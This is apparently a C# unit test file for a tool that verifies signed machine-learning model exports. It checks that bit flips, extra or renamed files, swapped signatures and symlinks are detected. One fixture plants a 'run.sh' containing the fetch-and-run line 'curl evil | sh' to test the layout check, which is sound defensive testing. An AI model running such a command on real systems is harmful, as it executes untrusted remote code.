using System.Text.Json.Nodes;
using TrustScore.Errors;
using TrustScore.Signing;
using TrustScore.Tests.Signing;
using TrustScore.TestSupport;
using TrustScore.Verification;

namespace TrustScore.Tests.Verification;

/// <summary>A good version passes every check; each tampering of issue 6's matrix is detected and named.</summary>
public sealed class VersionVerifierTests : IDisposable
{
    private readonly TempDirectory temp = new("verify");

    public void Dispose() => temp.Dispose();

    public static TheoryData<string> EveryFile => new()
    {
        "model/model.onnx",
        "model/conformance.json",
        "model/feature_schema.json",
        "manifest.json",
        "export_metadata.json",
        "model.sig",
    };

    [Theory]
    [InlineData(SigningKeyAlgorithm.Ed25519)]
    [InlineData(SigningKeyAlgorithm.EcdsaP256)]
    public void GoodVersion_PassesEveryCheck(SigningKeyAlgorithm algorithm)
    {
        SignedVersion signed = SignedVersion.Create(temp, algorithm: algorithm);

        VerificationReport report = Verify(signed);

        Assert.True(report.Passed, Describe(report));
        Assert.Equal(
            [VersionVerifier.LayoutCheck, VersionVerifier.ManifestCheck, VersionVerifier.FilesCheck, VersionVerifier.RootCheck, VersionVerifier.KeeperHashCheck, VersionVerifier.SignatureCheck, VersionVerifier.SignedContentCheck],
            report.Checks.Select(c => c.Name));
        Assert.True(report.Diff.IsEmpty);
        Assert.Empty(report.Skipped);
        Assert.StartsWith("sha256:", report.ComputedRoot, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(EveryFile))]
    public void BitFlip_InAnyFile_IsDetected(string relative)
    {
        SignedVersion signed = SignedVersion.Create(temp);
        string path = Path.Combine([signed.VersionDir, .. relative.Split('/')]);
        byte[] bytes = File.ReadAllBytes(path);
        bytes[bytes.Length / 2] ^= 0x04;
        File.WriteAllBytes(path, bytes);

        VerificationReport report = Verify(signed);

        Assert.False(report.Passed);
        string[] expected = relative switch
        {
            "model.sig" => [VersionVerifier.SignatureCheck, VersionVerifier.SignedContentCheck],
            "export_metadata.json" => [VersionVerifier.SignedContentCheck],
            // The flipped bit lands in feature_schema.sha256, which no longer matches the file.
            "manifest.json" => [VersionVerifier.ManifestCheck, VersionVerifier.SignedContentCheck],
            // The manifest records the feature schema's digest as well.
            "model/feature_schema.json" => [VersionVerifier.ManifestCheck, VersionVerifier.FilesCheck, VersionVerifier.RootCheck, VersionVerifier.KeeperHashCheck, VersionVerifier.SignedContentCheck],
            _ => [VersionVerifier.FilesCheck, VersionVerifier.RootCheck, VersionVerifier.KeeperHashCheck, VersionVerifier.SignedContentCheck],
        };
        AssertFailed(report, expected);
        if (relative.StartsWith("model/", StringComparison.Ordinal))
        {
            string name = relative["model/".Length..];
            Assert.Equal([name], report.Diff.Changed);
            Assert.Contains(name, report.Check(VersionVerifier.FilesCheck)!.Detail, StringComparison.Ordinal);
            Assert.Contains(name, report.Check(VersionVerifier.SignedContentCheck)!.Detail, StringComparison.Ordinal);
        }
        else if (relative != "model.sig")
        {
            Assert.Contains(relative, report.Check(VersionVerifier.SignedContentCheck)!.Detail, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void AddedFile_IsNamedAsExtra()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        ModelFixtures.Write(signed.VersionDir, "model/extra.bin", "payload");

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.FilesCheck, VersionVerifier.RootCheck, VersionVerifier.KeeperHashCheck, VersionVerifier.SignedContentCheck);
        Assert.Equal(["extra.bin"], report.Diff.Extra);
        Assert.Contains("extra: extra.bin", report.Check(VersionVerifier.FilesCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void RemovedFile_IsNamedAsMissing()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        File.Delete(Path.Combine(signed.VersionDir, "model", "conformance.json"));

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.FilesCheck, VersionVerifier.RootCheck, VersionVerifier.KeeperHashCheck, VersionVerifier.SignedContentCheck);
        Assert.Equal(["conformance.json"], report.Diff.Missing);
    }

    [Fact]
    public void RenamedFile_IsNamedAsMissingAndExtra_EvenThoughTheRootIsUnchanged()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        File.Move(Path.Combine(signed.VersionDir, "model", "model.onnx"), Path.Combine(signed.VersionDir, "model", "model2.onnx"));

        VerificationReport report = Verify(signed);

        // Names are not hashed into the root (OpenSSF), so the file list is what catches a rename;
        // the keeper hash does hash names.
        AssertFailed(report, VersionVerifier.FilesCheck, VersionVerifier.KeeperHashCheck, VersionVerifier.SignedContentCheck);
        Assert.Equal(["model2.onnx"], report.Diff.Extra);
        Assert.Equal(["model.onnx"], report.Diff.Missing);
    }

    [Fact]
    public void EditedMetric_InManifest_IsDetectedBySignature()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        string path = VersionLayout.ManifestPath(signed.VersionDir);
        JsonObject manifest = JsonNode.Parse(File.ReadAllText(path))!.AsObject();
        manifest["metrics"]!["r2"] = 0.99;
        File.WriteAllText(path, manifest.ToJsonString());

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.SignedContentCheck);
        Assert.Contains("manifest.json differs from the signed digest", report.Check(VersionVerifier.SignedContentCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void SwappedSignature_FromAnotherVersionBySameKey_IsDetected()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        SignedVersion other = SignedVersion.Create(temp, version: "1.3.0");
        File.AppendAllText(Path.Combine(other.VersionDir, "model", "conformance.json"), "\n");
        JsonObject otherManifest = RewriteManifestDigests(other.VersionDir);
        File.WriteAllText(VersionLayout.ManifestPath(other.VersionDir), otherManifest.ToJsonString());
        ModelSigner.Sign(other.VersionDir, other.Key.PrivateKeyPath);
        File.Copy(VersionLayout.SignaturePath(other.VersionDir), VersionLayout.SignaturePath(signed.VersionDir), overwrite: true);

        VerificationReport report = Verify(signed);

        Assert.True(report.Check(VersionVerifier.SignatureCheck)!.Passed);
        AssertFailed(report, VersionVerifier.SignedContentCheck);
        Assert.Contains("conformance.json", report.Check(VersionVerifier.SignedContentCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void SignedWithAnotherKey_IsDetected()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        KeygenResult intruder = KeyGenerator.Generate(temp.Combine("intruder"));
        ModelSigner.Sign(signed.VersionDir, intruder.PrivateKeyPath);

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.SignatureCheck, VersionVerifier.SignedContentCheck);
        Assert.Contains("does not verify with any supplied key", report.Check(VersionVerifier.SignatureCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void MissingSignature_IsDetected()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        File.Delete(VersionLayout.SignaturePath(signed.VersionDir));

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.LayoutCheck, VersionVerifier.SignatureCheck, VersionVerifier.SignedContentCheck);
    }

    [Fact]
    public void PublishedCopy_WithRegistryMetadataAndArchive_PassesLayout()
    {
        // A registry folder adds metadata.json and trust_score_<version>.tar.gz beside the export.
        SignedVersion signed = SignedVersion.Create(temp);
        ModelFixtures.Write(signed.VersionDir, "metadata.json", "{}");
        ModelFixtures.Write(signed.VersionDir, $"trust_score_{Path.GetFileName(signed.VersionDir)}.tar.gz", "archive");

        VerificationReport report = Verify(signed);

        Assert.True(report.Passed, Describe(report));
    }

    [Fact]
    public void UnexpectedTopLevelFile_FailsLayout()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        ModelFixtures.Write(signed.VersionDir, "run.sh", "curl evil | sh");

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.LayoutCheck);
        Assert.Contains("run.sh", report.Check(VersionVerifier.LayoutCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void FileTheOpenSsfDigestIgnores_IsCaughtByTheKeeperHash()
    {
        // The node's keeper hashes .gitignore; the OpenSSF root skips it.
        SignedVersion signed = SignedVersion.Create(temp);
        ModelFixtures.Write(signed.VersionDir, "model/.gitignore", "*.tmp\n");

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.KeeperHashCheck, VersionVerifier.SignedContentCheck);
        Assert.Contains(KeeperHashOracle.Of(Path.Combine(signed.VersionDir, "model")), report.Check(VersionVerifier.KeeperHashCheck)!.Detail, StringComparison.Ordinal);
        Assert.Contains("signed keeper hash", report.Check(VersionVerifier.SignedContentCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void OlderManifest_WithoutKeeperHash_FailsVerification_NamingTheField()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        string path = VersionLayout.ManifestPath(signed.VersionDir);
        JsonObject manifest = JsonNode.Parse(File.ReadAllText(path))!.AsObject();
        manifest.Remove("keeper_hash");
        File.WriteAllText(path, manifest.ToJsonString());

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.ManifestCheck, VersionVerifier.KeeperHashCheck, VersionVerifier.SignedContentCheck);
        Assert.Contains("keeper_hash is missing", report.Check(VersionVerifier.ManifestCheck)!.Detail, StringComparison.Ordinal);
        Assert.Contains("no keeper_hash", report.Check(VersionVerifier.KeeperHashCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void SymlinkInModel_FailsFilesAndRoot()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        File.CreateSymbolicLink(Path.Combine(signed.VersionDir, "model", "link.onnx"), "model.onnx");

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.FilesCheck, VersionVerifier.RootCheck, VersionVerifier.KeeperHashCheck, VersionVerifier.SignedContentCheck);
        Assert.Contains("symbolic link", report.Check(VersionVerifier.FilesCheck)!.Detail, StringComparison.Ordinal);
        Assert.Null(report.ComputedRoot);
    }

    [Fact]
    public void FailedGates_FailTheManifestCheck()
    {
        SignedVersion signed = SignedVersion.Create(temp, gatesPassed: false);

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.ManifestCheck);
        Assert.Contains("mae_max", report.Check(VersionVerifier.ManifestCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void ManifestVersionNotMatchingDirectory_FailsTheManifestCheck()
    {
        SignedVersion signed = SignedVersion.Create(temp, manifestVersion: "9.9.9");

        VerificationReport report = Verify(signed);

        AssertFailed(report, VersionVerifier.ManifestCheck);
        Assert.Contains("9.9.9", report.Check(VersionVerifier.ManifestCheck)!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void NoKey_IsBadInput_UnlessSignatureIsOptional()
    {
        SignedVersion signed = SignedVersion.Create(temp);

        Assert.Throws<BadInputException>(() => VersionVerifier.Verify(signed.VersionDir, new VerifyOptions()));
        VerificationReport report = VersionVerifier.Verify(signed.VersionDir, new VerifyOptions { RequireSignature = false });

        Assert.True(report.Passed, Describe(report));
        Assert.Null(report.Check(VersionVerifier.SignatureCheck));
        Assert.Single(report.Skipped);
    }

    [Fact]
    public void ExtraChecks_RunAfterTheBuiltInOnes_AndTheirFailuresCount()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        var options = new VerifyOptions
        {
            PublicKeyPath = signed.Key.PublicKeyPath,
            ExtraChecks = [new FixedCheck("conformance", true), new ThrowingCheck()],
        };

        VerificationReport report = VersionVerifier.Verify(signed.VersionDir, options);

        Assert.Equal(["conformance", "onnx-parity"], report.Checks.Skip(7).Select(c => c.Name));
        AssertFailed(report, "onnx-parity");
        Assert.Contains("runtime missing", report.Check("onnx-parity")!.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void MissingDirectory_IsBadInput()
    {
        KeygenResult key = KeyGenerator.Generate(temp.Combine("keys"));

        Assert.Throws<BadInputException>(() => VersionVerifier.Verify(temp.Combine("nope"), new VerifyOptions { PublicKeyPath = key.PublicKeyPath }));
    }

    [Fact]
    public void ReportJson_ListsChecksAndDiff()
    {
        SignedVersion signed = SignedVersion.Create(temp);
        File.Delete(Path.Combine(signed.VersionDir, "model", "conformance.json"));

        JsonObject json = Verify(signed).ToJson();

        Assert.False((bool)json["passed"]!);
        Assert.Equal("conformance.json", (string?)json["diff"]!["missing"]![0]);
        Assert.Contains(json["checks"]!.AsArray(), c => (string?)c!["name"] == "files" && !(bool)c["passed"]!);
    }

    private static VerificationReport Verify(SignedVersion signed) =>
        VersionVerifier.Verify(signed.VersionDir, new VerifyOptions { PublicKeyPath = signed.Key.PublicKeyPath });

    private static void AssertFailed(VerificationReport report, params string[] expected)
    {
        Assert.False(report.Passed);
        Assert.True(
            expected.Order().SequenceEqual(report.Failures.Select(f => f.Name).Order()),
            $"expected failures [{string.Join(", ", expected)}]; got: {Describe(report)}");
    }

    private static string Describe(VerificationReport report) =>
        string.Join(" | ", report.Checks.Select(c => $"{(c.Passed ? "PASS" : "FAIL")} {c.Name}: {c.Detail}"));

    private static JsonObject RewriteManifestDigests(string versionDir)
    {
        // Re-describe model/ after a change, as a re-export would (independent SHA-256 arithmetic).
        JsonObject manifest = JsonNode.Parse(File.ReadAllText(VersionLayout.ManifestPath(versionDir)))!.AsObject();
        var concatenated = new List<byte>();
        foreach (JsonNode? file in manifest["files"]!.AsArray())
        {
            byte[] bytes = File.ReadAllBytes(Path.Combine(versionDir, "model", (string)file!["name"]!));
            byte[] digest = System.Security.Cryptography.SHA256.HashData(bytes);
            concatenated.AddRange(digest);
            file["sha256"] = Convert.ToHexStringLower(digest);
            file["size"] = bytes.Length;
        }

        manifest["digest"]!["root"] = "sha256:" + Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData([.. concatenated]));
        manifest["keeper_hash"]!["hash"] = KeeperHashOracle.Of(Path.Combine(versionDir, "model"));
        return manifest;
    }

    private sealed class FixedCheck(string name, bool passed) : IVersionCheck
    {
        public string Name => name;

        public VerificationCheck Run(VersionContext context, CancellationToken ct) =>
            new(name, passed && context.Manifest is not null && context.Digest is not null, "fixed");
    }

    private sealed class ThrowingCheck : IVersionCheck
    {
        public string Name => "onnx-parity";

        public VerificationCheck Run(VersionContext context, CancellationToken ct) =>
            throw new ToolUnavailableException("ONNX runtime missing");
    }
}
